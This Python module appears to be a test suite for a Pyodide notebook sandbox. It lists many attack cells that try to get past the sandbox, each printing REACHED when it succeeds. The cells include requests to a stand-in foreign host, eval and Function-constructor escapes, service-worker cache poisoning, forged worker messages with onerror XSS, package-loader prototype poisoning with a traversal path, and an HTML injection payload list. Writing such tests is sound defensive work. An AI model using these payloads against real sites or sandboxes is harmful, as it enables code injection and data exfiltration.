"""What a cell could try in order to leave its interpreter: Python that prints REACHED where it got through."""

PAGE = "en/about/"
DATABASE = "attacked"

PRELUDE = """
import asyncio, js
from pyodide.ffi import create_proxy, to_js
FOREIGN, SITE = {foreign!r}, {site!r}
WAIT = 3

def options(**values):
    return to_js(values, dict_converter=js.Object.fromEntries)

def reached(what=True):
    if what:
        print("REACHED", str(what)[:200])

async def settled(promise):
    return await asyncio.wait_for(promise, WAIT)

def code(source):
    return js.URL.createObjectURL(js.Blob.new(to_js([source]), options(type="text/javascript")))
"""

REQUESTS = {
    "fetch": "reached((await settled(js.fetch(FOREIGN + 'fetch'))).status)",
    "fetch-post": "reached((await settled(js.fetch(FOREIGN + 'post', options(method='POST', body='x')))).status)",
    "fetch-no-cors": "reached((await settled(js.fetch(FOREIGN + 'opaque', options(mode='no-cors')))).type)",
    "fetch-of-the-site": "reached((await settled(js.fetch(SITE + 'en/'))).status)",
    "fetch-of-the-input": "reached(js.fetch(SITE + 'kamipen/input', options(method='POST')))",
    "pyfetch": "from pyodide.http import pyfetch\nreached((await settled(pyfetch(FOREIGN + 'pyfetch'))).status)",
    "open-url": "from pyodide.http import open_url\nreached(open_url(FOREIGN + 'open').read())",
    "pyxhr": "from pyodide.http import pyxhr\nreached(pyxhr.get(FOREIGN + 'pyxhr').status_code)",
    "request": "r = js.XMLHttpRequest.new()\nr.open('GET', FOREIGN + 'xhr', False)\nr.send()\nreached(r.status)",
    "web-socket": """
        s = js.WebSocket.new(FOREIGN.replace("http", "ws") + "socket")
        await asyncio.sleep(1)
        reached("opened")""",
    "event-source": "s = js.EventSource.new(FOREIGN + 'events')\nawait asyncio.sleep(1)\nreached('opened')",
    "web-transport": "reached(js.WebTransport.new(FOREIGN.replace('http:', 'https:') + 'transport'))",
    "socket": """
        import socket
        s = socket.socket()
        s.settimeout(1)
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", int(FOREIGN.rstrip("/").rpartition(":")[2])))
        except BlockingIOError:
            pass
        await asyncio.sleep(1)""",
    "beacon": "reached(js.navigator.sendBeacon(FOREIGN + 'beacon', 'x'))",
    "font": "f = js.FontFace.new('x', f'url({FOREIGN}font)')\nf.load()\nawait asyncio.sleep(1)\nreached('asked')",
    "load-package": """
        import pyodide_js
        await settled(pyodide_js.loadPackage(FOREIGN + "evil-1.0-py3-none-any.whl"))""",
    "lazy-file": """
        import pyodide_js
        pyodide_js.FS.createLazyFile("/", "lazy", FOREIGN + "lazy", True, False)
        reached(open("/lazy").read())""",
    "preloaded-file": """
        import pyodide_js
        pyodide_js.FS.createPreloadedFile("/", "early", FOREIGN + "early", True, False)
        await asyncio.sleep(1)""",
}

SCRIPTS = {
    "run-js": "from pyodide.code import run_js\nreached(run_js('1 + 1'))",
    "run-js-import": """
        from pyodide.code import run_js
        await settled(run_js(f"import('{FOREIGN}module.js')"))
        reached(getattr(js, "attacked", None))""",
    "eval": "reached(js.eval('1 + 1'))",
    "function": "reached(js.Function.new('return 2')())",
    "function-of-a-function": "reached(js.Object.constructor('return 2')())",
    "function-of-a-prototype": """
        make = js.Object.getPrototypeOf(js.Object).constructor
        reached(js.Reflect.construct(make, to_js(["return 2"]))())""",
    "async-function": """
        import pyodide_js
        make = js.Reflect.get(js.Object.getPrototypeOf(pyodide_js.runPythonAsync), "constructor")
        reached(await settled(make(f"return await import('{FOREIGN}module.js')")()))""",
    "timer": "js.setTimeout('globalThis.timer = 1', 0)\nawait asyncio.sleep(0.5)\nreached(getattr(js, 'timer', None))",
    "import-scripts": "js.importScripts(FOREIGN + 'script.js')",
    "ctypes": """
        import ctypes
        ctypes.CDLL(None).emscripten_run_script(b"globalThis.ran = 2")
        reached(getattr(js, "ran", None))""",
    "worker-of-a-blob": """
        said = asyncio.Future()
        w = js.Worker.new(code("postMessage(typeof caches)"))
        w.onmessage = create_proxy(lambda event: said.done() or said.set_result(event.data))
        reached(await settled(said))""",
    "worker-of-the-site": """
        w = js.Worker.new(SITE + "sw.js")
        reached("made")""",
    "shared-worker": "reached(js.SharedWorker.new(code('1')))",
    "shadow-realm": "reached(await settled(js.ShadowRealm.new().importValue(FOREIGN + 'module.js', 'x')))",
    "worklet": "reached(js.Worklet)",
}

STORES = {
    "caches-write": """
        for name in await settled(js.caches.keys()):
            cache = await settled(js.caches.open(name))
            for request in await settled(cache.keys()):
                if "main.js" in request.url or request.url.endswith("/en/about/"):
                    headers = options(**{"Content-Type": "text/javascript"})
                    body = js.Response.new("globalThis.attacked = 1", options(headers=headers))
                    await settled(cache.put(request, body))
        await settled((await settled(js.caches.open("kamipen-attacked"))).put(SITE + "x", js.Response.new("x")))
        reached("written")""",
    "indexed-db": """
        request = js.indexedDB.open("attacked")
        said = asyncio.Future()
        request.onsuccess = create_proxy(lambda event: said.set_result(event.target.result.close()))
        await settled(said)
        reached("made")""",
    "indexed-db-names": "reached(js.JSON.stringify(await settled(js.indexedDB.databases())))",
    "indexed-db-file-system": """
        import pyodide_js
        fs = pyodide_js.FS
        fs.mkdir("/attacked")
        fs.mount(fs.filesystems.IDBFS, options(), "/attacked")
        said = asyncio.Future()
        fs.syncfs(False, create_proxy(lambda error=None: said.set_result(error)))
        error = await settled(said)
        reached(not error and "made")""",
    "private-files": """
        folder = await settled(js.navigator.storage.getDirectory())
        await settled(folder.getFileHandle("attacked", options(create=True)))
        reached("made")""",
    "native-files": """
        import pyodide_js
        folder = await settled(js.navigator.storage.getDirectory())
        await settled(pyodide_js.mountNativeFS("/native", folder))
        reached("mounted")""",
    "estimate": "reached((await settled(js.navigator.storage.estimate())).usage is not None)",
    "locks": """
        said = asyncio.Future()
        js.navigator.locks.request("kamipen-snapshot", create_proxy(lambda lock: said.set_result(str(lock)) or said))
        reached(await settled(said))""",
    "broadcast": "js.BroadcastChannel.new('attacked').postMessage('x')\nreached('sent')",
    "cookies": "await settled(js.cookieStore.set('attacked', '1'))\nreached('set')",
    "service-worker": "reached(await settled(js.navigator.serviceWorker.getRegistrations()))",
    "notification": "reached(js.Notification.permission)",
    "old-files": "reached(js.webkitRequestFileSystemSync(0, 1024).name)",
}

MESSAGES = {
    "forged-output": """
        html = f"<img src='{FOREIGN}img'><img src=x onerror='attacked = 1'>"
        js.postMessage(options(type="output", id=1, items=[{"kind": "rich", "html": html}]))
        reached("sent")""",
    "forged-module": """
        bytes = to_js(b"\\0asm\\1\\0\\0\\0")
        js.postMessage(options(type="compiled", module=js.WebAssembly.Module.new(bytes)))
        reached("sent")""",
    "forged-misfit": "js.postMessage(options(type='unrestorable', message='x', lasting=True))\nreached('sent')",
    "forged-nonsense": "js.postMessage(None)\njs.postMessage(options(type='output', id=1, items=3))\nreached('sent')",
    "forged-order": """
        order = options(type="boot", runtime=FOREIGN, packages=to_js([]), snapshots="none")
        js.self.dispatchEvent(js.MessageEvent.new("message", options(data=order)))
        await asyncio.sleep(1)
        reached("sent")""",
}

PATHS = {
    "prototypes": """
        at = js.Object.getPrototypeOf(js.self)
        while at:
            for name in ("fetch", "caches", "indexedDB", "importScripts", "postMessage", "navigator"):
                found = js.Object.getOwnPropertyDescriptor(at, name)
                if found and (getattr(found, "get", None) or getattr(found, "value", None)):
                    reached(name)
            at = js.Object.getPrototypeOf(at)""",
    "constructor": """
        found = js.Object.getOwnPropertyDescriptor(js.self.constructor.prototype, "fetch")
        reached(found or js.Reflect.get(js.self, "fetch").name)""",
    "stack": """
        keep = lambda error, sites: js.Reflect.set(js.Object, "sites", sites) and "x"
        js.Error.prepareStackTrace = create_proxy(keep)
        try:
            js.JSON.parse("{")
        except Exception as error:
            str(error)
        js.Reflect.get(js.Error.new("x"), "stack")
        js.Error.prepareStackTrace = None
        for site in getattr(js.Object, "sites", []):
            for of in ("getThis", "getFunction"):
                found = getattr(site, of)()
                if found is not None and hasattr(found, "postMessage"):
                    reached("the global")
        reached(js.fetch.toString())""",
    "restored-names": "del js.fetch\nreached(js.fetch.name == 'fetch')",
    "overwritten-names": "js.fetch = js.Object\nreached(js.fetch.name == 'Object')",
}
"""Ways back to what was taken away."""

CRAWL = '''
seen, queue = js.Set.new(), []
SOUGHT = set("""CacheStorage IDBFactory StorageManager LockManager ServiceWorkerContainer CookieStore Worker
    XMLHttpRequest BroadcastChannel FileSystemDirectoryHandle WorkerNavigator StorageBucketManager GPU USB HID
    Serial""".split())
CALLS = set("""fetch importScripts postMessage open sendBeacon createObjectURL eval requestFileSystem XMLHttpRequest
    WebSocket EventSource WebTransport Worker SharedWorker BroadcastChannel FontFace WebSocketStream
    webkitRequestFileSystem""".split())
import pyodide_js, sys
import _kamipen_output
get, own, tag, source = js.Reflect.get, js.Reflect.ownKeys, js.Object.prototype.toString, js.Function.prototype.toString
def add(value, path):
    if type(value).__name__ in ("JsProxy", "JsCallable", "JsMap", "JsArray") or "Js" in type(value).__name__:
        if not seen.has(value):
            seen.add(value)
            queue.append((value, path))
for name, root in {"js": js.globalThis, "pyodide_js": pyodide_js, "page": _kamipen_output.Page.text}.items():
    add(root if name != "pyodide_js" else js.Object.assign(js.Object.new(), pyodide_js._api), name)
add(pyodide_js._module, "module")
count = 0
while queue and count < LIMIT:
    value, path = queue.pop(0)
    count += 1
    kind = tag.call(value)[8:-1]
    if kind in SOUGHT:
        reached(path + " is a " + kind)
    if kind.endswith("Function"):
        try:
            text = source.call(value)
        except Exception:
            text = ""
        name = text.partition("(")[0].rpartition(" ")[2]
        local = "Message" in path or "Channel" in path  # a port's own method leads to its other end
        if "[native code]" in text and name in CALLS and not local:
            reached(path + ": " + text[:60])
    if kind in ("Uint8Array", "ArrayBuffer", "String") or kind.endswith("Array"):
        continue
    try:
        keys = list(own(value))
    except Exception:
        continue
    for key in keys[:3000]:
        try:
            found = js.Reflect.getOwnPropertyDescriptor(value, key)
            for part in ("value", "get"):
                inner = get(found, part)
                if inner is not None:
                    add(inner, f"{path}.{str(key)[:40]}")
            if get(found, "get") is not None and "[native code]" in source.call(get(found, "get")):
                add(get(value, key), f"{path}.{str(key)[:40]}")
        except Exception:
            pass
    parent = js.Reflect.getPrototypeOf(value)
    if parent:
        add(parent, path + ".__proto__")
print("looked at", count)
'''

POISON = """
entry = options(file_name="../../en/index.html", sha256=None, depends=[], imports=[])
forged = to_js([entry])
js.Array.prototype.filter = create_proxy(lambda *_: forged)
js.Object.hasOwn = create_proxy(lambda *_: True)
js.Set.prototype.has = create_proxy(lambda *_: True)
js.Object.prototype.method = "POST"
"""
"""Run before a cell that imports a package: the loader's own code then works with forged means."""

RICH = """
class Rich:
    def _repr_html_(self):
        return f'''<img src="{FOREIGN}img"><img src=x onerror="attacked = 1"><script>attacked = 1</script>
            <iframe src="{FOREIGN}frame"></iframe><object data="{FOREIGN}object"></object>
            <svg><use href="{FOREIGN}use#x"/></svg>
            <form action="{FOREIGN}form"><button>x</button></form><link rel=stylesheet href="{FOREIGN}style">
            <div style="background: url({FOREIGN}background)">x</div><video src="{FOREIGN}video" autoplay></video>
            <meta http-equiv=refresh content="0;url={FOREIGN}refresh"><base href="{FOREIGN}">
            <a href="javascript:attacked=1">x</a>'''
Rich()
"""


def source(attack: str, foreign: str, site: str) -> str:
    """Return the whole cell of an attack."""
    from textwrap import dedent

    return PRELUDE.format(foreign=foreign, site=site) + dedent(attack)


ATTACKS = {
    **REQUESTS,
    **SCRIPTS,
    **STORES,
    **MESSAGES,
    **PATHS,
    "crawl": CRAWL.replace("LIMIT", "6000"),
    "closing": "js.self.close()",
}
